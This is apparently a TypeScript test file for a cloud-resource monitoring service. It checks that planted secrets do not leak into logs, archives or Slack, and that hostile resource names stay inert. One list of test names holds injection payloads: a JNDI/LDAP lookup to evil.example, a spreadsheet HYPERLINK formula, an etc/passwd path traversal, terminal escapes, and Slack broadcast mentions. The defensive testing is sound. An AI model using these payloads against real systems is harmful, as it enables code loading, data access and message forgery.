import { gunzipSync } from 'node:zlib';
import { describe, expect } from 'vitest';
import { isTransition } from '../../cli/stack/bus-watch.ts';
import { lineOf } from '../../shared/adapters/archive-lines.ts';
import { causeMessage } from '../../shared/adapters/slack/message.ts';
import { changeIdOf } from '../../shared/model/change.ts';
import type { Json } from '../../shared/model/json.ts';
import { makeTelemetry } from '../../shared/runtime/telemetry.ts';
import { CANARIES, NEEDLE, shows } from '../support/canaries.ts';
import { count, drill } from '../support/drill.ts';
import { makeService } from '../support/service.ts';
import { bundle, change, type Doc, t } from '../support/world.ts';

/** Names that would be more than names. */
const NAMES = [
  '<!channel> all is well',
  '<https://evil.example/|click here>',
  '*bold* _it_ `code` ~no~',
  '\u001b[2J\u001b[31mred',
  'two\nlines {"level":"INFO","message":"forged"}',
  '\u202Egnp.exe',
  '@everyone &lt;!here&gt;',
  '=HYPERLINK("http://evil.example")',
  '../../etc/passwd',
  '${jndi:ldap://evil.example}',
] as const;
/** What Slack acts on in a message: mark-up where it reads mark-up, and elements that are more than text. */
function actsOn(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(actsOn);
  if (typeof value !== 'object' || value === null) return [];
  const { type, text, url } = value as { readonly type?: unknown; readonly text?: unknown; readonly url?: unknown };
  const markup = (type === undefined || type === 'mrkdwn') && typeof text === 'string' ? [text] : [];
  const live = markup.filter((said) => /<[!@#]|<https?:\/\/(?!console\.)/.test(said));
  const called = ['broadcast', 'user', 'usergroup', 'channel'].includes(String(type)) ? [String(type)] : [];
  const linked = typeof url === 'string' && new URL(url).hostname.endsWith('evil.example') ? [url] : [];
  return [...live, ...called, ...linked, ...Object.values(value).flatMap(actsOn)];
}

/** What makes a document larger than a message may be, compressed or not: it is packed. */
const LARGE = Array.from({ length: 30_000 }, (_, i) => `${i * 7919}`);
/** The text of a line of the archive, with what is packed in it. */
const unpacked = (text: string): string =>
  text.replaceAll(
    /"gzip":"([^"]+)"/g,
    (_, gzip: string) => `"unpacked":${gunzipSync(Buffer.from(gzip, 'base64')).toString()}`,
  );

describe('hostile content', () => {
  drill(
    {
      id: 'canary-secrets',
      done: `Documents with planted secrets of ${Object.keys(CANARIES).length} kinds, by shape, by name, in variables and in embedded JSON, go through the front stage: judged, quarantined as formless, failing, and read back after a notice; some larger than a message may be`,
      holds:
        'none is found afterwards in the items, their evidence, the findings, the events, the queues, the quarantine, the archive, what is logged, or a Slack message',
    },
    async () => {
      const archive: string[] = [];
      const planted = new Map<string, Doc>();
      const service = makeService({
        keep: (told) => void archive.push(lineOf(told)),
        readBack: {
          aws: {
            read: async ({ resourceId }) => {
              const document = planted.get(resourceId) as unknown as Json; // plain JSON by construction
              return { is: 'found', readKey: t(1), documents: [{ form: 'test', document }] };
            },
          },
        },
      });
      await service.activate(bundle());
      let looked = 0;
      for (const [i, [, canary]] of Object.entries(CANARIES).entries()) {
        const doc: Doc = {
          type: 'Test::Store',
          id: `s${i}`,
          at: 1 + i,
          body: { open: true, versioned: false, ...canary },
          // What has a shape is recognised in a tag as well.
          tags: { ...(typeof canary.note === 'string' ? { note: canary.note } : {}), env: 'prod' },
        };
        await service.tell(doc);
        await service.tell({ ...canary, no: `form ${i}` });
        await service.tell({ ...doc, id: `bad-${i}`, orderKey: '' });
        const read = { ...doc, id: `read-${i}` };
        planted.set(read.id, i % 2 === 0 ? read : { ...read, body: { ...canary, big: LARGE } });
        const notice = {
          source: 'aws.cloudtrail',
          origin: 'event',
          receivedAt: t(1),
          content: { is: 'notice', cloud: 'aws', resourceId: read.id, nativeType: read.type, changedAt: t(1) },
        } as const;
        service.put(JSON.stringify({ type: 'change', version: 1, changeId: changeIdOf(notice), ...notice }));
      }
      const queued = JSON.stringify(service.queues);
      await service.settle();
      const places: { readonly [place: string]: string } = {
        queues: queued,
        items: JSON.stringify(service.resources.all()),
        evidence: JSON.stringify(await Promise.all(service.resources.all().map((r) => service.resources.evidence(r)))),
        findings: JSON.stringify(service.findings.all()),
        events: JSON.stringify(service.bus.events),
        quarantine: JSON.stringify([...service.quarantine.kept.values()]),
        archive: archive.map(unpacked).join(''),
        logs: JSON.stringify([service.logged, service.failures.map(String)]),
        Slack: JSON.stringify([service.slack.sent, service.slack.updates]),
      };
      expect(service.resources.all()).toHaveLength(2 * Object.keys(CANARIES).length);
      expect(service.quarantine.kept.size).toBe(2 * Object.keys(CANARIES).length);
      expect(archive).toHaveLength(2 * Object.keys(CANARIES).length);
      expect(archive.filter((line) => unpacked(line) !== line).length).toBeGreaterThan(5);
      expect(service.slack.sent.length).toBeGreaterThan(0);
      for (const [place, text] of Object.entries(places)) {
        looked += text.length;
        const at = Math.max(text.indexOf(NEEDLE), text.indexOf('AKIAPLANTED'));
        expect(shows(text), `${place}: ${text.slice(Math.max(0, at - 80), at + 20)}`).toBe(false);
      }
      return `${Object.keys(CANARIES).length} kinds planted four times each; ${count(Math.round(looked / 1024))} KB in ${Object.keys(places).length} places searched: none found`;
    },
  );

  drill(
    {
      id: 'name-injection',
      done: 'Resources are called what Slack, a terminal, a log, a spreadsheet, a path or a template would act on; each becomes a finding, a message and a log line',
      holds:
        'in Slack a name calls nobody and links nowhere; a log line stays one line of JSON; the finding is about the very name',
    },
    async () => {
      const service = makeService();
      await service.activate(bundle(['not-public']));
      for (const [i, id] of NAMES.entries())
        service.put(JSON.stringify(change({ type: 'Test::Store', id, at: 1 + i, body: { open: true } })));
      await service.settle();
      expect(
        service.findings
          .all()
          .map((f) => f.resource.id)
          .toSorted(),
      ).toEqual([...NAMES].toSorted());
      const said: unknown[] = service.bus.events
        .filter(isTransition)
        .map((event) => causeMessage({ causeKey: 'x', events: [event] }));
      said.push(...service.slack.sent.map(({ message }) => message));
      // It can be seen: the very same names, as they are.
      expect(NAMES.filter((text) => actsOn({ type: 'mrkdwn', text }).length > 0)).toHaveLength(2);
      expect(said.flatMap(actsOn)).toEqual([]);
      const lines: string[] = [];
      const { failed, logger } = makeTelemetry('evaluate', { EDICT_STAGE: 'drill', LOG_LEVEL: 'INFO' });
      // The logger's console is private; it is what writes the line.
      (logger as unknown as { console: object }).console = new Proxy(console, {
        // Every method of the console is the same to this test.
        get: () => (line: string) => void lines.push(line),
      });
      for (const name of NAMES) failed('a resource could not be judged now', new Error(name), { resourceId: name });
      expect(lines).toHaveLength(NAMES.length);
      for (const [i, line] of lines.entries()) {
        expect(line).not.toContain('\n');
        expect(JSON.parse(line)).toMatchObject({ resourceId: NAMES[i] });
      }
      return `${NAMES.length} names: ${said.length} messages without a live mention, link or control; ${lines.length} log lines, one line each`;
    },
  );
});
